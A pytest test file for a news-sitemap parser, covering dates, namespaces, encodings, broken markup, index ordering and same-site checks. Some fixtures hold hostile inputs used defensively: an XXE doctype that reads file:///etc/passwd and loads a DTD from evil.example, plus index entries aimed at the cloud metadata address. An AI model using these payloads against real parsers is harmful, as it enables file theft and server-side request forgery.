"""News sitemaps and indexes, well-formed and as they come."""

from datetime import UTC, datetime, timedelta
from xml.sax.saxutils import escape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from worker.domain.dates import Precision, Published
from worker.domain.feeds import Child, Entry, FeedType, FetchStatus, ParsedFeed
from worker.feeds import sitemap as sitemaps
from worker.feeds.parse import parse
from worker.feeds.scanner import LONGEST_FIELD
from worker.feeds.sieve import MAX_ITEMS
from worker.feeds.sitemap import fold, index_tells_changes
from worker.feeds.sniff import Shape, mismatch, shape
from worker.text.sites import same_site

NOW = datetime(2026, 11, 22, 12, tzinfo=UTC)
OWN = "http://www.sitemaps.org/schemas/sitemap/0.9"
NEWS = "http://www.google.com/schemas/sitemap-news/0.9"
IMAGE = "http://www.google.com/schemas/sitemap-image/1.1"
HEAD = f'<urlset xmlns="{OWN}" xmlns:news="{NEWS}" xmlns:image="{IMAGE}">'


def read(
    body: str | bytes,
    content_type: str | None = None,
    *,
    timezone: str | None = None,
    told: FeedType = FeedType.AUTO,
) -> ParsedFeed:
    return parse(
        body if isinstance(body, bytes) else body.encode(),
        url="https://www.blatt.example/index.xml",
        content_type=content_type,
        now=NOW,
        timezone=timezone,
        told=told,
    )


def url(
    loc: str = "https://blatt.example/1",
    title: str = "Titel",
    date: str = "2026-11-22T10:00:00+01:00",
    rest: str = "",
) -> str:
    return (
        f"<url><loc>{loc}</loc><news:news><news:publication><news:name>Blatt</news:name>"
        f"<news:language>de</news:language></news:publication>"
        f"<news:publication_date>{date}</news:publication_date>"
        f"<news:title>{title}</news:title></news:news>{rest}</url>"
    )


def urlset(*urls: str) -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?>\n{HEAD}{"".join(urls)}</urlset>'


def only(
    body: str | bytes, content_type: str | None = None, *, timezone: str | None = None
) -> Entry:
    (entry,) = read(body, content_type, timezone=timezone).entries
    return entry


def index(*children: str) -> str:
    return f'<sitemapindex xmlns="{OWN}">{"".join(children)}</sitemapindex>'


def child(loc: str, lastmod: str = "") -> str:
    changed = f"<lastmod>{lastmod}</lastmod>" if lastmod else ""
    return f"<sitemap><loc>{loc}</loc>{changed}</sitemap>"


def test_a_news_sitemap_is_read_whole():
    parsed = read(
        urlset(
            """<url>
              <loc>
                https://blatt.example/nato?a=1&amp;b=2
              </loc>
              <lastmod>2026-11-22T09:30:00Z</lastmod>
              <news:news>
                <news:publication>
                  <news:name>Das Blatt &amp; Bild</news:name>
                  <news:language>de</news:language>
                </news:publication>
                <news:genres>PressRelease, Blog</news:genres>
                <news:publication_date>2026-11-22T10:00:00+01:00</news:publication_date>
                <news:title>Nato ber&#228;t &quot;M&amp;A&quot;</news:title>
                <news:keywords>Nato, Munition, Nato</news:keywords>
              </news:news>
              <image:image><image:loc>https://blatt.example/b.jpg</image:loc>
                <image:title>Ein Bild</image:title></image:image>
            </url>"""
        )
    )
    assert parsed == ParsedFeed(
        FetchStatus.OK,
        (
            Entry(
                id="https://blatt.example/nato?a=1&b=2",
                url="https://blatt.example/nato?a=1&b=2",
                title='Nato berät "M&A"',
                published=Published(
                    "2026-11-22T09:00:00Z", Precision.MINUTE, SOURCE, zone="+01:00"
                ),
                updated=Published("2026-11-22T09:30:00Z", Precision.MINUTE, "lastmod", zone="Z"),
                categories=("PressRelease", "Blog", "Nato", "Munition"),
            ),
        ),
        title="Das Blatt & Bild",
        language="de",
    )


SOURCE = "news:publication_date"


@pytest.mark.parametrize(
    "date, value, precision, zone",
    [
        ("2026-11-21", "2026-11-21", Precision.DAY, None),
        ("2026-11", "2026-11", Precision.MONTH, None),
        ("2026-11-21T23:30+02:00", "2026-11-21T21:30:00Z", Precision.MINUTE, "+02:00"),
        ("2026-11-21T23:30:15.250Z", "2026-11-21T23:30:15Z", Precision.MINUTE, "Z"),
        ("<![CDATA[2026-11-21]]>", "2026-11-21", Precision.DAY, None),
        ("2026-11-21T23:30:00", "2026-11-21", Precision.DAY, None),
    ],
)
def test_dates_are_as_exact_as_they_stand(date, value, precision, zone):
    published = only(urlset(url(date=date))).published
    assert published == Published(value, precision, SOURCE, zone=zone)


def test_a_time_without_a_zone_is_that_of_the_feed():
    entry = only(urlset(url(date="2026-11-21T23:30:00")), timezone="Europe/Berlin")
    assert entry.published is not None
    assert entry.published.value == "2026-11-21T22:30:00Z"


@pytest.mark.parametrize("date", ["", "yesterday", "2026-12-24T00:00:00Z", "1970-01-01"])
def test_an_untrusted_date_falls_back_to_the_last_change_or_to_none(date):
    rest = "<lastmod>2026-11-22T09:00:00Z</lastmod>"
    dated = only(urlset(url(date=date, rest=rest))).published
    assert dated == Published("2026-11-22T09:00:00Z", Precision.MINUTE, "lastmod", zone="Z")
    assert only(urlset(url(date=date))).published is None


VOCABULARIES = {
    "another prefix": (f'xmlns="{OWN}" xmlns:g="{NEWS}"', "", "g:"),
    "n": (f'xmlns="{OWN}" xmlns:n="{NEWS}"', "", "n:"),
    "prefix for all": (f'xmlns:s="{OWN}" xmlns:news="{NEWS}"', "s:", "news:"),
    "news by default": (f'xmlns:s="{OWN}" xmlns="{NEWS}"', "s:", ""),
    "https": (f'xmlns="{OWN}" xmlns:nw="{NEWS.replace("http", "https")}"', "", "nw:"),
    "single quotes": (f"xmlns='{OWN}' xmlns:nw = '{NEWS}'", "", "nw:"),
    "wrong namespaces": ('xmlns="x" xmlns:news="https://example.org/news"', "", "news:"),
    "no namespaces": ("", "", "news:"),
    "no prefixes either": ("", "", ""),
}


@pytest.mark.parametrize("name", VOCABULARIES)
def test_prefixes_and_namespaces_may_be_any(name):
    declared, own, news = VOCABULARIES[name]
    body = (
        f"<{own}urlset {declared}><{own}url><{own}loc>https://blatt.example/1</{own}loc>"
        f"<{news}news><{news}publication><{news}name>Blatt</{news}name></{news}publication>"
        f"<{news}publication_date>2026-11-22</{news}publication_date>"
        f"<{news}title>Titel</{news}title></{news}news></{own}url></{own}urlset>"
    )
    parsed = read(body)
    assert [(entry.url, entry.title) for entry in parsed.entries] == [
        ("https://blatt.example/1", "Titel")
    ]
    assert parsed.entries[0].published is not None
    assert parsed.title == "Blatt"


def test_a_namespace_may_be_declared_at_the_news_tag_alone():
    inner = f'<x:news xmlns:x="{NEWS}"><x:title>Titel</x:title></x:news>'
    body = f'<urlset xmlns="{OWN}"><url><loc>https://b.example/1</loc>{inner}</url></urlset>'
    assert only(body).title == "Titel"


def test_fields_of_other_vocabularies_are_not_taken_for_news():
    pictures = (
        "<image:image><image:loc>https://b.example/p.jpg</image:loc><image:title>Bild"
        "</image:title></image:image><video:title>Film</video:title>"
        "<video:publication_date>2001-01-01</video:publication_date>"
    )
    first, second = f"<url>{pictures}", "<url>"
    entry = only(urlset(url().replace(second, first)))
    assert (entry.url, entry.title) == ("https://blatt.example/1", "Titel")
    assert entry.published is not None
    assert entry.published.value.startswith("2026")


@pytest.mark.parametrize(
    "inner",
    [
        "<video:video><video:title>Film</video:title></video:video>",
        "<o:news xmlns:o='https://example.org/other'><o:title>Fremd</o:title></o:news>",
        "<news:title>ohne Hülle</news:title>",
        "<!-- <news:news/> -->",
    ],
)
def test_a_url_without_news_is_left_out_and_a_sitemap_of_such_is_no_feed(inner):
    plain = f"<url><loc>https://blatt.example/seite</loc>{inner}</url>"
    assert only(urlset(plain, url(), plain)).url == "https://blatt.example/1"
    parsed = read(urlset(plain, plain))
    assert parsed == ParsedFeed(
        FetchStatus.NOT_A_FEED,
        detail="a sitemap of 2 pages without news tags, not a news sitemap",
    )


def test_a_news_sitemap_may_be_empty_at_the_time():
    assert read(urlset()) == ParsedFeed(FetchStatus.OK)
    assert read(f'<urlset xmlns="{OWN}"/>').status is FetchStatus.NOT_A_FEED


@pytest.mark.parametrize(
    "loc, expected",
    [
        ("<![CDATA[https://b.example/a?x=1&y=2]]>", "https://b.example/a?x=1&y=2"),
        ("https://b.example/a<![CDATA[?x=1&y=2]]>", "https://b.example/a?x=1&y=2"),
        ("https://b.example/a?x=1&amp;amp;y=2", "https://b.example/a?x=1&y=2"),
        ("https://b.example/a?x=1&y=2&copy=3", "https://b.example/a?x=1&y=2&copy=3"),
        ("\n https://b.example/\n lang ", "https://b.example/lang"),
        ("https://b.example/<!-- x -->a", "https://b.example/a"),
        ("https://b.example/stra%C3%9Fe/ü", "https://b.example/stra%C3%9Fe/ü"),
        ("https://user:pw@b.example/a", "https://b.example/a"),
        ("<url><![CDATA[https://b.example/a]]></url>", "https://b.example/a"),
    ],
)
def test_addresses_are_read_through_what_is_around_them(loc, expected):
    entry = only(urlset(url(loc)))
    assert (entry.id, entry.url, entry.title) == (expected, expected, "Titel")


@pytest.mark.parametrize(
    "loc",
    [
        "/relativ",
        "relativ.html",
        "//b.example/a",
        "ftp://b.example/",
        "javascript:x()",
        "",
        "http:",
    ],
)
def test_what_is_no_absolute_web_address_is_left_out_and_counted(loc):
    parsed = read(urlset(url(loc), url()))
    assert [entry.url for entry in parsed.entries] == ["https://blatt.example/1"]
    assert parsed.detail == "left out without an absolute web address: 1"


@pytest.mark.parametrize(
    "title, expected",
    [
        ("<![CDATA[Nato & <b>EU</b>]]>", "Nato & EU"),
        ("A <b>bold</b> move", "A bold move"),
        ("Kurs < 5 Euro & mehr", "Kurs < 5 Euro & mehr"),
        ("T&uuml;rkei&nbsp;&#8211; &#x4E;ato", "Türkei – Nato"),
        ("T&amp;uuml;rkei &amp;#8211; Nato", "Türkei – Nato"),
        ("A<!-- <news:title>B</news:title> -->C", "AC"),
        ("\n  Nato\n  tagt\x01 ", "Nato tagt"),
        ("&unknown; &#0;x", "&unknown; \ufffdx"),
        ("", ""),
    ],
)
def test_titles_are_one_line_of_text(title, expected):
    assert only(urlset(url(title=title))).title == expected


def test_an_element_may_be_closed_at_once_or_be_of_another_case():
    body = urlset(url()).replace("<news:title>Titel</news:title>", "<news:title/>")
    assert only(body).title == ""
    assert only(urlset(url().replace("news:title", "News:Title"))).title == "Titel"


@pytest.mark.parametrize(
    "broken",
    [
        "<url><loc>https://b.example/x",
        "<url><loc>https://b.example/x</loc><news:news><news:title>offen</news:news>",
        "</news:news></url></url></urlset>",
        "<url><loc>https://b.example/x</loc><news:news><news:title>1 < 2 & 3</url>",
        "<url attr=<<>",
        "<!-- nie zu",
        "<![CDATA[ nie zu",
        "\0\x01\x02 &&&& <> </>",
        "<?php error ?>",
        "<!DOCTYPE x [<!ENTITY a 'b'>",
    ],
)
def test_a_broken_place_costs_nothing_before_or_behind_it(broken):
    body = urlset(url("https://b.example/1"), broken, url("https://b.example/2"))
    found = {entry.url for entry in read(body).entries}
    assert {"https://b.example/1", "https://b.example/2"} <= found


def test_a_sitemap_that_is_cut_off_keeps_what_came():
    body = urlset(url("https://b.example/1"), url("https://b.example/2"))
    cut = body[: body.rindex("<news:title>") + 14]
    assert [(entry.url, entry.title) for entry in read(cut).entries] == [
        ("https://b.example/1", "Titel"),
        ("https://b.example/2", "Ti"),
    ]


ENTITIES = (
    '<!DOCTYPE urlset [<!ENTITY a "lol"><!ENTITY b "&a;&a;"><!ENTITY f SYSTEM "file:///etc/passwd">'
    '<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>'
)


def test_entities_of_the_document_do_not_exist():
    entry = only(ENTITIES + urlset(url(title="T &b; &f;")))
    assert entry.title == "T &b; &f;"


@pytest.mark.parametrize("junk", ["junk ", "\ufeff", "\n\n", "<!-- <html> -->", "<?xml-model x?>"])
def test_junk_may_stand_in_front(junk):
    assert only(junk + urlset(url())).title == "Titel"


UMLAUTS = "Türkei – „Straße“"


@pytest.mark.parametrize(
    "encoding, content_type",
    [
        ("utf-8", None),
        ("utf-8-sig", "text/xml; charset=iso-8859-1"),
        ("utf-16", None),
        ("utf-16-le", None),
        ("utf-32", None),
        ("windows-1252", None),
        ("windows-1252", "text/xml; charset=utf-8"),
        ("windows-1252", "text/xml; charset=hex"),
    ],
)
def test_text_survives_its_encoding_whatever_was_declared(encoding, content_type):
    body = urlset(url(title=UMLAUTS)).encode(encoding)
    assert only(body, content_type).title == UMLAUTS


@pytest.mark.parametrize("encoding", ["windows-1251", "koi8-r", "iso-8859-2", "gb18030"])
def test_other_encodings_are_those_declared(encoding):
    title = "Łódź" if encoding == "iso-8859-2" else "НАТО"
    body = urlset(url(title=title))
    declared = body.replace("UTF-8", encoding).encode(encoding)
    assert only(declared).title == title
    assert only(body.encode(encoding), f'text/xml; charset="{encoding}"').title == title


def test_a_long_title_is_cut_between_two_characters():
    title = "x" + "€" * LONGEST_FIELD
    assert only(urlset(url(title=title))).title == title[:1000]


def test_name_and_language_are_the_feeds_where_all_have_the_same():
    other = url("https://blatt.example/2").replace("Blatt", "").replace(">de<", "><")
    assert (read(urlset(url(), other)).title, read(urlset(url(), other)).language) == (
        "Blatt",
        "de",
    )
    mixed = url("https://blatt.example/2").replace("Blatt", "Post").replace(">de<", ">fr<")
    assert (read(urlset(url(), mixed)).title, read(urlset(url(), mixed)).language) == ("", None)


def test_an_address_that_stands_twice_is_one_entry_the_newest():
    old = url(title="alt", date="2026-11-20")
    assert only(urlset(old, url(title="neu"), old)).title == "neu"


def dated(count: int) -> str:
    """Entries a minute apart, in no order; the highest number is the newest."""
    numbers = sorted(range(count), key=lambda number: number * 7919 % count)
    return urlset(
        *(
            url(
                f"https://b.example/{number}",
                date=f"{NOW - timedelta(minutes=count - number):%Y-%m-%dT%H:%M:%SZ}",
            )
            for number in numbers
        )
    )


def test_entries_come_newest_first_and_only_the_newest_are_kept():
    parsed = read(dated(MAX_ITEMS + 3))
    numbers = [int((entry.url or "").rpartition("/")[2]) for entry in parsed.entries]
    assert numbers == list(range(MAX_ITEMS + 2, 2, -1))
    assert parsed.detail == f"items beyond the {MAX_ITEMS} that are read: 3"


def test_undated_entries_keep_their_order_behind_the_dated():
    undated = [url(f"https://b.example/{number}", date="") for number in range(3)]
    found = [entry.url for entry in read(urlset(*undated, url())).entries]
    assert found == ["https://blatt.example/1", *(f"https://b.example/{n}" for n in range(3))]


def test_addresses_beyond_the_protocols_limit_are_not_read(monkeypatch):
    monkeypatch.setattr(sitemaps, "MAX_URLS", 3)
    parsed = read(dated(4))
    assert len(parsed.entries) == 3
    assert parsed.detail == "nothing is read after the first 3 addresses"
    assert read(dated(3)).detail == ""


def test_an_index_names_its_sitemaps_news_first_then_the_last_changed():
    parsed = read(
        index(
            child("https://www.blatt.example/a.xml"),
            child("https://www.blatt.example/b.xml", "2026-11-01"),
            child("https://www.blatt.example/c.xml", "2026-11-22T09:00:00Z"),
            child("https://www.blatt.example/d.xml"),
            child("https://www.blatt.example/old-News.xml", "2020-01-01"),
            child("https://www.blatt.example/sitemap?type=news", "2026-11-22T08:00:00Z"),
            child("https://news.blatt.example/e.xml"),
            child("https://www.blatt.example/c.xml", "2026-11-22T09:00:00Z"),
        )
    )
    assert (parsed.status, parsed.entries, parsed.detail) == (FetchStatus.OK, (), "")
    assert [child.url.rpartition("/")[2] for child in parsed.children] == [
        "sitemap?type=news",
        "old-News.xml",
        "c.xml",
        "b.xml",
        "a.xml",
        "d.xml",
        "e.xml",
    ]
    assert [child.changed and child.changed.value for child in parsed.children] == [
        "2026-11-22T08:00:00Z",
        "2020-01-01",
        "2026-11-22T09:00:00Z",
        "2026-11-01",
        None,
        None,
        None,
    ]


def test_sitemaps_of_other_sites_are_left_out_with_a_reason():
    parsed = read(
        index(
            child("https://blatt.example/1.xml"),
            child("https://cdn.fremd.example/2.xml"),
            child("http://169.254.169.254/3.xml"),
            child("/4.xml"),
            child("file:///etc/passwd"),
            child("https://www.blatt.example/index.xml"),
        )
    )
    assert parsed.children == (Child("https://blatt.example/1.xml"),)
    assert parsed.detail == (
        "sitemaps of other sites: 2 (cdn.fremd.example, 169.254.169.254); "
        "left out without an absolute web address: 2"
    )


@pytest.mark.parametrize("children", [[], [child("https://fremd.example/1.xml")]])
def test_an_index_without_sitemaps_to_read_is_no_feed(children):
    parsed = read(index(*children))
    assert parsed.status is FetchStatus.NOT_A_FEED
    assert parsed.detail.startswith("a sitemap index that names no sitemap to read")


@pytest.mark.parametrize(
    "one, other, same",
    [
        ("https://www.bmvg.de/", "http://bmvg.de:8080/x", True),
        ("https://www.bmvg.de/", "https://news.bmvg.de/", True),
        ("https://a.co.uk/", "https://b.co.uk/", False),
        ("https://a.github.io/", "https://b.github.io/", False),
        ("https://de/", "https://bmvg.de/", False),
        ("http://127.0.0.1:1/", "http://127.0.0.1:2/", True),
        ("http://127.0.0.1/", "http://1.0.0.1/", False),
        ("http://[::1]/", "http://[::1]:8/", True),
        ("http://[::1]/", "http://[::2]/", False),
        ("http://localhost/", "http://localhost:8/", True),
        ("https://www.münchen.de/", "https://xn--mnchen-3ya.de/", True),
        ("https://WWW.bmvg.de./", "https://bmvg.de/", True),
    ],
)
def test_a_site_is_what_somebody_registered(one, other, same):
    assert same_site(one, other) is same
    assert same_site(other, one) is same


def at(value: str, precision: Precision = Precision.MINUTE) -> Published:
    return Published(value, precision, "lastmod")


def feed_of(*dates: Published | None) -> ParsedFeed:
    entries = tuple(
        Entry(f"https://b.example/{number}", None, "T", published=date)
        for number, date in enumerate(dates)
    )
    return ParsedFeed(FetchStatus.OK, entries)


MINUTE = at("2026-11-22T10:00:00Z")
EARLIER = at("2026-11-22T08:00:00Z")
SLIGHTLY_LATER = at("2026-11-22T10:59:00Z")
MUCH_LATER = at("2026-11-22T11:30:00Z")


@pytest.mark.parametrize(
    "children, tells",
    [
        ([(MINUTE, feed_of(EARLIER, None))], True),
        ([(MINUTE, feed_of()), (EARLIER, feed_of(EARLIER))], True),
        ([(MINUTE, feed_of(SLIGHTLY_LATER))], True),
        ([(MINUTE, feed_of(EARLIER, MUCH_LATER))], False),
        ([(at("2026-11-22", Precision.DAY), feed_of(EARLIER))], False),
        ([(MINUTE, feed_of(EARLIER)), (None, feed_of())], False),
    ],
)
def test_an_index_is_only_believed_that_tells_truly_and_to_the_minute(children, tells):
    told = [(Child("https://blatt.example/1.xml", changed), read) for changed, read in children]
    assert index_tells_changes(told) is tells


def test_sitemaps_are_folded_newest_first_and_each_entry_once():
    one = feed_of(EARLIER, None)
    two = ParsedFeed(
        FetchStatus.OK, (Entry("neu", None, "N", published=MINUTE), *one.entries[:1]), title="B"
    )
    folded = fold([one, two])
    assert [entry.id for entry in folded.entries] == [
        "neu",
        "https://b.example/0",
        "https://b.example/1",
    ]
    assert (folded.title, folded.language, folded.detail) == ("B", None, "")


def test_a_fold_keeps_no_more_than_one_feed_may_hold():
    entries = tuple(Entry(str(number), None, "T") for number in range(MAX_ITEMS))
    other = ParsedFeed(FetchStatus.OK, (Entry("neu", None, "N", published=MINUTE),))
    folded = fold([ParsedFeed(FetchStatus.OK, entries), other])
    assert len(folded.entries) == MAX_ITEMS
    assert folded.entries[0].id == "neu"
    assert folded.detail == f"items beyond the {MAX_ITEMS} that are read: 1"


RSS = "<rss version='2.0'><channel><item><title>T</title></item></channel></rss>"
JSON = '{"version": "https://jsonfeed.org/version/1.1", "items": []}'
INDEX = index(child("https://blatt.example/1.xml"))


@pytest.mark.parametrize(
    "body, found",
    [
        (urlset(url()), Shape.SITEMAP),
        (INDEX, Shape.SITEMAP_INDEX),
        ("<s:urlset>", Shape.SITEMAP),
        ("<!-- <rss> --><SitemapIndex/>", Shape.SITEMAP_INDEX),
        ("<rss><channel><urlset>", Shape.MARKUP),
        ("<html><urlset>", Shape.HTML),
        ("<urlsets>", Shape.MARKUP),
    ],
)
def test_sitemaps_are_recognised_by_their_root(body, found):
    assert shape(body.encode()) is found


@pytest.mark.parametrize("told", [FeedType.AUTO, FeedType.FEED, FeedType.SITEMAP])
@pytest.mark.parametrize(
    "body, right",
    [
        (RSS, FeedType.FEED),
        (JSON, FeedType.FEED),
        (urlset(url()), FeedType.SITEMAP),
        (INDEX, FeedType.SITEMAP),
    ],
)
def test_the_type_that_the_admin_tells_must_be_the_right_one(body, right, told):
    parsed = read(body, told=told)
    if told in {FeedType.AUTO, right}:
        assert parsed == read(body)
        assert parsed.status is FetchStatus.OK
    else:
        detail = f"a {right}, but feeds.yaml says type: {told}; write type: {right} there"
        assert parsed == ParsedFeed(FetchStatus.NOT_A_FEED, detail=detail)


@pytest.mark.parametrize("told", list(FeedType))
def test_what_is_no_feed_at_all_is_named_as_before(told):
    assert read("<html>", told=told) == read("<html>")
    assert read("", told=told).status is FetchStatus.EMPTY


@pytest.mark.parametrize("shape_", list(Shape))
def test_auto_fits_everything(shape_):
    assert mismatch(FeedType.AUTO, shape_) is None


PIECES = [
    b"<url>", b"</url>", b"<loc>", b"</loc>", b"https://b.example/1", b"<news:news>", b"<n:title>",
    b"<news:publication_date>", b"2026-11-22", b"<![CDATA[", b"]]>", b"<!--", b"-->", b"&", b"&#",
    b"&amp;", b"<sitemap>", b"<lastmod>", b"http://[", b"//", b"<", b">", b"\xff", b"\0", b"\xc3",
    b"<news xmlns='sitemap-news'>", b"<keywords>", b",", b"</sitemapindex>", b"http://a.example:x/",
]  # fmt: skip


@given(
    st.sampled_from([b"<urlset>", HEAD.encode(), b"<sitemapindex>", b"\xff\xfe<\0"]),
    st.lists(st.sampled_from(PIECES) | st.binary(max_size=12), max_size=40),
    st.sampled_from([None, "text/xml; charset=utf-16", "charset=\0", "x; charset=big5"]),
)
def test_any_bytes_end_in_a_status(head, pieces, content_type):
    parsed = read(head + b"".join(pieces), content_type)
    assert parsed.status in {FetchStatus.OK, FetchStatus.NOT_A_FEED}
    assert len({entry.id for entry in parsed.entries}) == len(parsed.entries)
    assert all(child.url.startswith("http") for child in parsed.children)
    assert not (parsed.entries and parsed.children)


@given(st.lists(st.tuples(st.integers(0, 30), st.text(max_size=20)), max_size=12))
def test_every_address_that_was_written_is_read_whatever_the_titles(items):
    urls = [url(f"https://b.example/{number}", escape(title)) for number, title in items]
    found = {entry.url for entry in read(urlset(*urls).encode("utf-8", "replace")).entries}
    assert found == {f"https://b.example/{number}" for number, _ in items}
